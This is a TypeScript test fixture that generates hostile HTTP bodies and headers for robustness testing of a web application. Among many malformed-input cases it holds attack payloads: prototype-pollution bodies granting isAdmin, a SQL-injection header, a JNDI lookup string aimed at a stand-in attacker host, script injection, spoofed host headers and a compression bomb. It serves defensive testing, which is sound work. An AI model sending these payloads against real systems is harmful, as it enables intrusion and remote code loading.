import { gzipSync } from 'node:zlib'

/** A whole body that its call does not expect, with its declared type. */
export interface HostileBody {
  bytes: Buffer
  headers: Record<string, string>
}

const json = { 'content-type': 'application/json' }
const text = (content: string, headers: Record<string, string> = json): HostileBody => ({ bytes: Buffer.from(content), headers })

const broken = [
  '{',
  '}',
  '{"a"',
  '{"a":',
  '{"a":1',
  '[1,',
  '"',
  "{'a':1}",
  '{a:1}',
  '{"a":1,}',
  '{"a":NaN}',
  '{"a":undefined}',
  '// x\n{}',
  '{}{}',
  '{} x',
  '\u0000',
  'null',
  'true',
  '1',
  '"text"',
  '[]',
  '[{}]',
  '',
  ' ',
  '\ufeff{}',
  '{"a":"\t"}',
  '{"a":"\\ud800"}',
  '{"a":"\\x41"}',
  '{"a":01}',
  '{"a":+1}',
  '{"a":.5}',
]
const types = [
  'text/plain',
  'text/html',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset=bogus',
  'APPLICATION/JSON',
  'application/json;;;',
  'application/merge-patch+json',
  'application/xml',
  'image/png',
  '*/*',
  'x',
  ';',
  'application',
  'application/json, text/plain',
  `application/json; a=${'b'.repeat(3_000)}`,
]

const encodings = ['gzip', 'deflate', 'br', 'identity', 'gzip, gzip', 'bogus']
const forms: readonly string[] = [
  '--x\r\n',
  '--x--\r\n',
  '--x\r\nContent-Disposition: form-data\r\n\r\na\r\n--x--\r\n',
  '--x\r\nContent-Disposition: form-data; name="image"\r\n\r\na',
  '--x\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n\r\n--x--\r\n',
  '--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\na\r\n--x--\r\n',
  `--x\r\nContent-Disposition: form-data; name="${'n'.repeat(5_000)}"\r\n\r\na\r\n--x--\r\n`,
  `--x\r\n${'A: b\r\n'.repeat(3_000)}\r\na\r\n--x--\r\n`,
  '--x\r\nContent-Disposition: form-data; name="isPrimary"\r\nContent-Transfer-Encoding: base64\r\n\r\n====\r\n--x--\r\n',
  '--x\nContent-Disposition: form-data; name="a"\n\nb\n--x--\n',
  '--y\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--y--\r\n',
  `${'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'.repeat(200)}--x--\r\n`,
]
const asForm = { 'content-type': 'multipart/form-data; boundary=x' }

/** Bodies that are broken, too large, or of another type than declared. */
export function makeHostileBodies(): HostileBody[] {
  const valid = '{"email":"guest@example.com","propertyId":1,"status":"approved"}'
  return [
    ...broken.map((content) => text(content)),
    ...types.map((type) => text(valid, { 'content-type': type })),
    { bytes: Buffer.from(valid), headers: {} },
    { bytes: Buffer.from(valid, 'utf16le'), headers: json },
    { bytes: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0x22, 0x7d]), headers: json },
    { bytes: Buffer.alloc(200, 0xff), headers: json },
    text(`{"a":"${'x'.repeat(65_536)}"}`),
    text(`{"a":"${'x'.repeat(1_060_000)}"}`),
    text(`${'['.repeat(30_000)}${']'.repeat(30_000)}`),
    text('{"__proto__":{"isAdmin":true}}'),
    text('{"constructor":{"prototype":{"isAdmin":true}}}'),
    ...encodings.map((encoding) => ({
      bytes: gzipSync(Buffer.alloc(2_000_000, 32)),
      headers: { ...json, 'content-encoding': encoding },
    })),
    ...forms.map((content) => text(content, asForm)),
    text(forms[3] ?? '', { 'content-type': 'multipart/form-data' }),
  ]
}

/** Headers that no person's browser sends. */
export const hostileHeaders: readonly Record<string, string>[] = [
  { cookie: 'porchlight_session=' },
  { cookie: `porchlight_session=${'a'.repeat(43)}` },
  { cookie: `porchlight_session=${'%'.repeat(43)}` },
  { cookie: `porchlight_session="${'a'.repeat(43)}"; porchlight_session=b` },
  { cookie: ';;;===;;; =; a; __proto__=1; constructor=2' },
  { cookie: Array.from({ length: 300 }, (_, n) => `c${n}=${n}`).join('; ') },
  { 'x-forwarded-for': "127.0.0.1, ' or 1=1" },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-forwarded-proto': 'gopher' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-original-url': '/metrics' },
  { host: 'evil.example' },
  { host: '' },
  { accept: 'text/html;q=99, */*;q=-1' },
  { 'accept-encoding': 'br;q=1, gzip;q=nan, *;q=0' },
  { 'accept-encoding': '*' },
  { 'accept-language': 'x'.repeat(4_000) },
  { 'user-agent': '' },
  { 'user-agent': '\x24{jndi:ldap://evil.example/a}' },
  { range: 'bytes=0-1,5-9,-1' },
  { 'if-none-match': '*' },
  { 'if-modified-since': 'never' },
  { 'stripe-signature': 't=1,v1=00' },
  { authorization: 'Bearer x' },
  { authorization: `Basic ${'A'.repeat(2_000)}` },
  { origin: 'https://evil.example' },
  { origin: 'null' },
  { referer: 'not an address' },
  { 'sec-fetch-site': 'cross-site' },
  { 'content-length': '0' },
  { 'x-request-id': '<script>\t' },
]
